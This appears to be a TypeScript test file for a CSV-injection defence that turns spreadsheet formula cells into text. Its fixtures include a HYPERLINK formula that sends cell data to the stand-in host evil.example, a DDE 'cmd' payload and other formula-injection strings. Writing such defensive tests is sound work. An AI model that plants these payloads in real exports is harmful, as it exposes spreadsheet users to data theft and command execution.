import { parse } from "csv-parse/sync";
import { describe, expect, test } from "vitest";
import { csvHeader, csvRecords, csvRows, neutraliseCell } from "~/csv/safe-csv";

// OWASP's CSV-injection rule for every CSV Cadence writes: a text cell that a spreadsheet would run as a formula is
// turned into text; numbers are left alone.

const parsed = (text: string) => parse(text) as string[][];

describe("neutraliseCell", () => {
  test.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `'=HYPERLINK("http://evil.example/?x="&A1,"click")`],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ["-2+3", "'-2+3"],
    ["@SUM(1,2)", "'@SUM(1,2)"],
    ["\t=1+2", "'\t=1+2"],
    ["\r=1+2", "'\r=1+2"],
    ["\uFF1D1+2", "'\uFF1D1+2"],
    ["-", "'-"],
    ["-12.50x", "'-12.50x"],
  ])("%j starts a formula and becomes text", (input, expected) => {
    expect(neutraliseCell(input)).toBe(expected);
  });

  test.each([
    "Shoes",
    "a=b",
    "Gold",
    "",
    "12.50",
    "-12.50",
    "0",
    "18446744073709551557",
    "2026-01-05",
    "'quoted already",
  ])("%j is left as it is", (input) => {
    expect(neutraliseCell(input)).toBe(input);
  });
});

describe("csvRows", () => {
  test("formula cells come back as text with a leading apostrophe; numbers and amounts stay bare numbers", () => {
    const text = csvRows([["=1+2", -12.5, "-12.50", 3n, null, true, "Shoes;=1+2", "@x"]]);
    expect(text).toBe(`"'=1+2",-12.5,-12.50,3,,true,"Shoes;=1+2","'@x"\n`);
    expect(parsed(text)).toEqual([["'=1+2", "-12.5", "-12.50", "3", "", "true", "Shoes;=1+2", "'@x"]]);
  });

  test("quotes, commas and line breaks inside a cell survive a round trip", () => {
    const cells = ['say "hi", then\nleave', "-\r\nx", "plain"];
    expect(parsed(csvRows([cells]))).toEqual([['say "hi", then\nleave', "'-\r\nx", "plain"]]);
  });

  test("no parsed cell of a hostile row starts with a formula character", () => {
    const hostile = ["=", "+", "-", "@", "\t", "\r"].map((start) => `${start}HYPERLINK("http://evil.example")`);
    for (const cell of parsed(csvRows([hostile]))[0]!) expect(cell).toMatch(/^'/);
  });

  test("records follow the header's order; the header is written as it is", () => {
    expect(csvHeader(["customer_id", "net_spend"])).toBe("customer_id,net_spend\n");
    expect(csvRecords(["b", "a"], [{ a: "=x", b: 1 }])).toBe(`b,a\n1,"'=x"\n`);
  });
});
